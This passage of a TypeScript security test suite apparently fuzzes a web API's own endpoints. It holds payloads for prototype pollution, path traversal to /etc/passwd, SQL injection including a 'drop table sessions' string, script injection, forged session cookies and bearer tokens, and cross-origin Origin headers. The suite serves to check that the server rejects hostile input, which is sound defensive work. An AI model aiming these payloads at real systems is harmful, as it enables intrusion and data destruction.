    withRawBody('multipart: as multipart/mixed', body, `multipart/mixed; boundary=${MULTIPART_BOUNDARY}`),
    withRawBody('multipart: MULTIPART/FORM-DATA in upper case', body, `MULTIPART/FORM-DATA; boundary=${MULTIPART_BOUNDARY}`),
    // Not multipart at all.
    withRawBody('body = JSON with the file as a string', (d) => JSON.stringify({ file: fileText(d) }), 'application/json'),
    withRawBody('body = JSON {"__proto__": …}', () => '{"__proto__":{"admin":true,"polluted":"yes"}}', 'application/json'),
    withRawBody('body = malformed JSON', () => '{', 'application/json'),
    withRawBody('body = application/x-www-form-urlencoded', (d) => `file=${encodeURIComponent(fileText(d))}`, 'application/x-www-form-urlencoded'),
    withRawBody('body = the file as text/csv', fileBytes, 'text/csv'),
    withRawBody('body = the file as application/octet-stream', fileBytes, 'application/octet-stream'),
    withRawBody('body = the file as the XLSX media type', fileBytes, XLSX_TYPE),
    withRawBody('body = the file without a content type', fileBytes, null),
    withRawBody('body = text/plain <script>', () => '<script>alert(1)</script>', 'text/plain'),
    // Lying lengths.
    ...['0', '1', '99999999', '-1', 'abc'].map((length): Payload => ({
      label: `content-length = ${length}`,
      apply: (draft) => ({ ...draft, rawBody: body(draft), contentType: MULTIPART, headers: { ...draft.headers, 'content-length': length } }),
    })),
  ];
}

/* ------------------------------------------------------------------------------------------------
 * Query strings, URLs and methods
 * ---------------------------------------------------------------------------------------------- */

const withQuery = (label: string, pairs: string): Payload => ({ label, apply: (draft) => ({ ...draft, query: [...draft.query, pairs] }) });

/**
 * The example unchanged, signed in: it must succeed, or the entry's other cases would stop at the
 * same refusal and test nothing behind it (a fixture gone, an example out of date).
 */
export function examplePayload(): Payload {
  return { label: '<the example as it is>', pastSignIn: true, mustSucceed: true, apply: (draft) => draft };
}

/** Query-string shapes that apply to every endpoint, whether it reads a query or not. */
export function queryPayloads(): Payload[] {
  return [
    withQuery('query + __proto__[admin]=true', '__proto__[admin]=true&__proto__[polluted]=yes'),
    withQuery('query + __proto__=x', '__proto__=x'),
    withQuery('query + constructor[prototype][admin]=true', 'constructor[prototype][admin]=true'),
    withQuery('query + toString=1&hasOwnProperty=1', 'toString=1&hasOwnProperty=1&valueOf=1'),
    withQuery('query + unknown debug=1', 'debug=1&admin=true'),
    withQuery('query + 64 kB value', `pad=${'q'.repeat(64 * KB)}`),
    withQuery('query + 1 MB+ value', `pad=${'q'.repeat(OVER_BODY_LIMIT)}`),
    withQuery('query + 5000 parameters', Array.from({ length: 5000 }, (_, i) => `p${i}=${i}`).join('&')),
    withQuery('query + &&&==&', '&&&==&'),
    withQuery('query + %ZZ=%ZZ', '%ZZ=%ZZ'),
    withQuery('query + lone surrogate bytes', '%ED%A0%80=%ED%A0%80'),
    withQuery('query + %00=%00', '%00=%00'),
    withQuery('query + ;semicolon separated', 'a=1;b=2'),
  ];
}

/** Changes to the path itself: traversal, encodings, separators. */
export function urlPayloads(): Payload[] {
  const rewrite = (label: string, fn: (url: string) => string): Payload => ({ label, apply: (draft) => ({ ...draft, rewriteUrl: fn }) });
  const onPath = (fn: (path: string) => string) => (url: string) => {
    const [path = '', ...rest] = url.split('?');
    return [fn(path), ...rest].join('?');
  };
  return [
    rewrite('url + trailing slash', onPath((p) => `${p}/`)),
    rewrite('url + /../../etc/passwd', onPath((p) => `${p}/../../../../etc/passwd`)),
    rewrite('url + /..%2F..%2Fetc%2Fpasswd', onPath((p) => `${p}/..%2F..%2F..%2Fetc%2Fpasswd`)),
    rewrite('url + %00', onPath((p) => `${p}%00`)),
    rewrite('url + ;jsessionid=x', onPath((p) => `${p};jsessionid=x`)),
    rewrite('url + .json', onPath((p) => `${p}.json`)),
    rewrite('url with // doubled', onPath((p) => p.replace('/api/', '/api//'))),
    rewrite('url with backslashes', onPath((p) => p.replaceAll('/', '\\'))),
    rewrite('url in upper case', onPath((p) => p.toUpperCase())),
    rewrite('url with %2F for /', onPath((p) => p.replace('/api/v1/', '/api%2Fv1%2F'))),
    rewrite('url with a percent-encoded letter', onPath((p) => p.replace('/api/', '/%61pi/'))),
  ];
}

const OTHER_METHODS: readonly string[] = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS', 'TRACE', 'PROPFIND'];

/**
 * The endpoint's URL with every other method but those that other entries of the table declare at
 * the same URL (`covered`: their own cases send them, and here they would run with this entry's
 * example: a PATCH's example sent as DELETE would delete the row it names). Where a route the table
 * does not declare answers, it runs with this endpoint's example: the data checks will tell if it writes.
 */
export function methodPayloads(method: HttpMethod, covered: readonly string[] = []): Payload[] {
  return OTHER_METHODS.filter((m) => m !== method && !covered.includes(m)).map((m) => ({
    label: `<method ${m}>`,
    apply: (draft) => ({ ...draft, method: m }),
  }));
}

/* ------------------------------------------------------------------------------------------------
 * Headers: cookies, Authorization, Accept-Language, Origin
 * ---------------------------------------------------------------------------------------------- */

const SESSION = 'sinergi_session';
const FORGED_SESSION = `ses_${'A'.repeat(43)}`;
const FORGED_TOKEN = `sng_${'B'.repeat(43)}`;

const withHeaders = (
  label: string,
  headers: (session: string | null) => Record<string, string>,
  credential?: (session: string | null) => Credential,
  mustFail?: Payload['mustFail'],
): Payload => ({
  label,
  apply: (draft, session) => ({ ...draft, headers: { ...draft.headers, ...headers(session) } }),
  ...(credential ? { credential } : {}),
  ...(mustFail ? { mustFail } : {}),
});

const none = (): Credential => 'none';
const kept = (session: string | null): Credential => (session ? 'valid' : 'none');
const unclear = (session: string | null): Credential => (session ? 'unknown' : 'none');
/** The rest of the cookie header when signed in. */
const plusSession = (session: string | null) => (session ? `; ${SESSION}=${session}` : '');

export function cookiePayloads(): Payload[] {
  const cookie = (label: string, value: (session: string | null) => string, credential: (session: string | null) => Credential) =>
    withHeaders(`cookie: ${label}`, (session) => ({ cookie: value(session) }), credential);
  return [
    cookie('<forged session>', () => `${SESSION}=${FORGED_SESSION}`, none),
    cookie('<empty session>', () => `${SESSION}=`, none),
    cookie('<session of 201 characters>', () => `${SESSION}=${'s'.repeat(201)}`, none),
    cookie('<10 kB session>', () => `${SESSION}=${'s'.repeat(10 * KB)}`, none),
    cookie('<session with SQL>', () => `${SESSION}=' OR 1=1 --`, none),
    cookie('<session with traversal>', () => `${SESSION}=../../etc/passwd`, none),
    cookie('<session percent-encoded junk>', () => `${SESSION}=%ZZ%ED%A0%80%00`, none),
    cookie('<API token as session>', () => `${SESSION}=${FORGED_TOKEN}`, none),
    cookie('<session in quotes>', (s) => `${SESSION}="${s ?? FORGED_SESSION}"`, unclear),
    cookie('<unterminated quote>', () => `${SESSION}="abc`, none),
    cookie('<name only>', () => SESSION, none),
    cookie('<=;=;=>', () => '=;=;=;;;', none),
    cookie('<forged then real>', (s) => `${SESSION}=${FORGED_SESSION}${plusSession(s)}`, unclear),
    cookie('<real then forged>', (s) => `${s ? `${SESSION}=${s}; ` : ''}${SESSION}=${FORGED_SESSION}`, unclear),
    cookie('<500 cookies>', (s) => `${Array.from({ length: 500 }, (_, i) => `c${i}=${i}`).join('; ')}${plusSession(s)}`, kept),
    cookie('<__proto__ and constructor cookies>', (s) => `__proto__=admin; constructor=x; prototype=y${plusSession(s)}`, kept),
    cookie('<case-changed name>', (s) => `SINERGI_SESSION=${s ?? FORGED_SESSION}`, none),
    cookie('<16 kB header>', (s) => `pad=${'c'.repeat(16 * KB)}${plusSession(s)}`, kept),
  ];
}

export function authorizationPayloads(): Payload[] {
  const authorization = (label: string, value: (session: string | null) => string) =>
    withHeaders(`authorization: ${label}`, (session) => ({ authorization: value(session) }), unclear);
  return [
    authorization('<empty>', () => ''),
    authorization('Bearer <nothing>', () => 'Bearer '),
    authorization('Bearer x', () => 'Bearer x'),
    authorization('Bearer <forged API token>', () => `Bearer ${FORGED_TOKEN}`),
    authorization('bearer <lower-case scheme>', () => `bearer ${FORGED_TOKEN}`),
    authorization('Bearer <the session token>', (session) => `Bearer ${session ?? FORGED_SESSION}`),
    authorization('Bearer <10 kB token>', () => `Bearer sng_${'t'.repeat(10 * KB)}`),
    authorization('Bearer <SQL>', () => "Bearer sng_' OR 1=1 --"),
    authorization('Bearer <two tokens>', () => `Bearer ${FORGED_TOKEN}, Bearer ${FORGED_TOKEN}`),
    authorization('Basic admin:password', () => `Basic ${Buffer.from('hostile-admin@desk.go.id:correct horse battery staple').toString('base64')}`),
    authorization('Basic <not base64>', () => 'Basic %%%'),
    authorization('Digest', () => 'Digest username="admin", realm="x", nonce="1", uri="/", response="0"'),
  ];
}

export function languagePayloads(): Payload[] {
  const language = (label: string, value: string) => withHeaders(`accept-language: ${label}`, () => ({ 'accept-language': value }), kept);
  return [
    language('*', '*'),
    language('xx-XX', 'xx-XX'),
    language('en;q=abc', 'en;q=abc'),
    language('en;q=-1, id;q=0', 'en;q=-1, id;q=0'),
    language('en;q=1e309', 'en;q=1e309'),
    language(';;;,,,;q=', ';;;,,,;q='),
    language('__proto__', '__proto__, constructor;q=0.9'),
    language('<10 kB>', 'en-'.padEnd(10 * KB, 'x')),
    language('<1000 entries>', Array.from({ length: 1000 }, (_, i) => `x${i};q=0.${i % 10}`).join(',')),
    language('<Latin-1 bytes>', 'ën;q=0.5, ïd'),
  ];
}

/** Cookie-authenticated writes from anywhere but our own pages must be refused. */
const foreignWrite: Payload['mustFail'] = (endpoint, session) => session !== null && endpoint.method !== 'GET';

export function originPayloads(): Payload[] {
  const origin = (label: string, headers: Record<string, string>, foreign: boolean) =>
    withHeaders(label, () => headers, kept, foreign ? foreignWrite : undefined);
  return [
    origin('origin: null', { origin: 'null' }, true),
    origin('origin: http://evil.example', { origin: 'http://evil.example' }, true),
    origin('origin: http://localhost:80.evil.example', { origin: 'http://localhost:80.evil.example' }, true),
    origin('origin: http://localhost:8080', { origin: 'http://localhost:8080' }, true),
    origin('origin: <not a URL>', { origin: 'not a url' }, true),
    origin('origin: <10 kB>', { origin: `http://${'o'.repeat(10 * KB)}.example` }, true),
    origin('origin: http://LOCALHOST:80 (same origin, odd case)', { origin: 'http://LOCALHOST:80' }, false),
    origin('origin: <empty>, referer: http://evil.example/', { origin: '', referer: 'http://evil.example/' }, true),
    origin('host: [::1 (malformed)', { host: '[::1' }, true),
    withHeaders('user-agent: <10 kB>', () => ({ 'user-agent': 'u'.repeat(10 * KB) }), kept),
    withHeaders("user-agent: <SQL>", () => ({ 'user-agent': "'; drop table sessions; --" }), kept),
    withHeaders('x-forwarded-for: <junk>', () => ({ 'x-forwarded-for': "' OR 1=1 --, 999.999.999.999, ::ffff:zz" }), kept),
    withHeaders('accept: text/html', () => ({ accept: 'text/html' }), kept),
  ];
}

export function headerPayloads(): Payload[] {
  return [...cookiePayloads(), ...authorizationPayloads(), ...languagePayloads(), ...originPayloads()];
}
